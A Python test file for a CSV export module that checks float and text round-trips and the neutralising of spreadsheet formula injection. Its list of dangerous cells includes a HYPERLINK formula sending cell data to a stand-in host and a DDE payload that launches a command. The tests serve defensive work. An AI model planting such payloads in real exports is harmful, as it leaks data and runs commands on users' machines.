"""Tables read back by two libraries: numbers bit for bit, text as it was, and nothing a spreadsheet would run."""

import csv
import io
import math
import struct
from datetime import UTC, date, datetime

import polars
import pytest
from hypothesis import given
from hypothesis import strategies as some

from vaultdash.files.spreadsheet_csv import cell, spreadsheet_csv

DANGEROUS = (
    "=1+1",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+1",
    "-1+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
)  # fmt: skip


def bits(value: float) -> bytes:
    return struct.pack("<d", value)


@given(some.lists(some.floats(allow_nan=False), min_size=1, max_size=20))
def test_floats_come_back_bit_for_bit_from_two_libraries(values: list[float]) -> None:
    text = spreadsheet_csv(["value"], [[value] for value in values])
    by_python = [float(row["value"]) for row in csv.DictReader(io.StringIO(text))]
    by_polars = polars.read_csv(text.encode(), schema={"value": polars.Float64})["value"].to_list()
    assert [bits(value) for value in by_python] == [bits(value) for value in values]
    assert [bits(value) for value in by_polars] == [bits(value) for value in values]


@given(some.lists(some.text(some.characters(codec="utf-8", exclude_characters="\0")), min_size=1, max_size=8))
def test_text_comes_back_as_it_was_but_for_the_apostrophe_that_disarms_it(values: list[str]) -> None:
    text = spreadsheet_csv(["a", "b"], [[value, "end"] for value in values])
    rows = list(csv.reader(io.StringIO(text, newline="")))[1:]
    assert [row[1] for row in rows] == ["end"] * len(values)
    for row, value in zip(rows, values, strict=True):
        assert row[0] in (value, "'" + value)
        assert not row[0].startswith(("=", "+", "-", "@", "\t", "\r", "\n"))


@pytest.mark.parametrize("text", DANGEROUS)
def test_what_a_spreadsheet_would_run_begins_with_an_apostrophe(text: str) -> None:
    assert cell(text) == "'" + text


@pytest.mark.parametrize("text", ["GLD", "a=b", "1-2", "'quoted'", "", " =1"])
def test_other_text_is_left_as_it_is(text: str) -> None:
    assert cell(text) == text


def test_negative_numbers_stay_numbers() -> None:
    assert spreadsheet_csv(["a", "b"], [[-1.5, -3]]) == "a,b\r\n-1.5,-3\r\n"


def test_times_say_their_zone_and_words_are_joined() -> None:
    at = datetime(2026, 6, 10, 16, 0, 5, 250_000, tzinfo=UTC)
    row = [at, date(2026, 6, 10), True, None, ("wide", "crossed")]
    assert spreadsheet_csv(list("abcde"), [row]).splitlines()[1] == (
        "2026-06-10T16:00:05.250000Z,2026-06-10,true,,wide crossed"
    )


def test_quotes_commas_and_lines_follow_rfc_4180() -> None:
    written = spreadsheet_csv(["a", "b"], [['say "so", then', "two\nlines"]])
    assert written == 'a,b\r\n"say ""so"", then","two\nlines"\r\n'


def test_an_infinite_number_reads_back_as_one() -> None:
    assert float(spreadsheet_csv(["a"], [[math.inf]]).splitlines()[1]) == math.inf
